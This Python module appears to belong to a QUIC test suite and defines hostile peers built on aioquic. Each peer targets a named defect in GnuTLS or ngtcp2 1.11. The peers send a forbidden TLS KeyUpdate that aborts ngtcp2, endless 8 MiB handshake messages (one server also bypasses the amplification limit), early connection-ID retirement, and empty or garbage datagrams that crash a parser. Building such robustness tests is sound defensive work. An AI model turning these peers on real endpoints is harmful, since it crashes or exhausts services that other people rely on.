"""What hostile peers send. Each names the defect of the libraries below us that it aims at."""

import os
import random
import socket

from aioquic import tls
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionIdIssued
from aioquic.quic.packet import QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilder

# RFC 8446 §4.6.3: update_not_requested. QUIC forbids the message (RFC 9001 §6).
TLS_KEY_UPDATE = b"\x18\x00\x00\x01\x00"
NEW_CONNECTION_ID = 0x18
# The length of a TLS message that never ends: 24 bits, all set.
ENDLESS = b"\xff\xff\xff"
# Far more than an honest handshake needs, and than the endpoint may keep.
ENDLESS_BYTES = 8 << 20


def send_tls_key_update(quic: QuicConnection) -> None:
    """F1: after the handshake, GnuTLS installs keys a second time and ngtcp2 1.11 aborts."""
    quic._crypto_streams[tls.Epoch.ONE_RTT].sender.write(TLS_KEY_UPDATE)


def write_endless_message(quic: QuicConnection, message_type: int) -> None:
    """F3: GnuTLS keeps an unfinished message of up to 16 MiB; ngtcp2 1.11 has no limit either."""
    sender = quic._crypto_streams[tls.Epoch.INITIAL].sender
    sender.write(bytes([message_type]) + ENDLESS + bytes(ENDLESS_BYTES))


class EndlessClient(QuicConnection):
    """F3 from a client: its ClientHello never ends."""

    def _push_crypto_data(self) -> None:
        # Called once, when there is a ClientHello.
        self._crypto_buffers[tls.Epoch.INITIAL].seek(0)
        write_endless_message(self, message_type=1)


class EndlessServer(QuicConnection):
    """F3 from a server: its ServerHello never ends."""

    def _push_crypto_data(self) -> None:
        for buffer in self._crypto_buffers.values():
            buffer.seek(0)
        # A hostile server does not care about amplification.
        self._network_paths[0].is_validated = True
        write_endless_message(self, message_type=2)


class EarlyRetirement(QuicConnection):
    """F2: NEW_CONNECTION_ID that retires the first ID, before the client's Finished."""

    _was_sent = False

    def _write_application(self, builder: QuicPacketBuilder, network_path, now: float) -> None:
        crypto = self._cryptos[tls.Epoch.ONE_RTT]
        if crypto.send.is_valid() and not self._handshake_complete and not self._was_sent:
            self._was_sent = True
            self._write_retirement(builder, crypto)
        super()._write_application(builder, network_path, now)

    def _write_retirement(self, builder: QuicPacketBuilder, crypto) -> None:
        self._replenish_connection_ids()
        fresh = self._host_cids[1]
        builder.start_packet(QuicPacketType.ONE_RTT, crypto)
        frame = builder.start_frame(
            NEW_CONNECTION_ID, capacity=64, handler=self._on_new_connection_id_delivery,
            handler_args=(fresh,))
        frame.push_uint_var(fresh.sequence_number)
        frame.push_uint_var(fresh.sequence_number)
        frame.push_uint8(len(fresh.cid))
        frame.push_bytes(fresh.cid)
        frame.push_bytes(fresh.stateless_reset_token)
        fresh.was_sent = True
        # Has the server route the new ID here.
        self._events.append(ConnectionIdIssued(connection_id=fresh.cid))


class Noise:
    """F11: empty datagrams, which ngtcp2 1.11's parser aborts on, and garbage of every size."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)

    def datagram(self) -> bytes:
        choice = self._random.random()
        if choice < 0.3:
            return b""
        size = self._random.choice([1, 5, 20, 21, 22, 43, 100, 1199, 1200, 1472, 9000])
        garbage = bytearray(self._random.randbytes(size))
        # Half of it looks like a long or short header of QUIC.
        if choice < 0.5:
            garbage[0] |= 0xC0
        elif choice < 0.65:
            garbage[0] = garbage[0] & 0x3F | 0x40
        if choice < 0.4 and size >= 5:
            garbage[1:5] = b"\x00\x00\x00\x01"
        return bytes(garbage)


def duplicate(transport) -> socket.socket:
    """The socket under an asyncio transport: asyncio itself sends no empty datagram."""
    return socket.socket(fileno=os.dup(transport.get_extra_info("socket").fileno()))
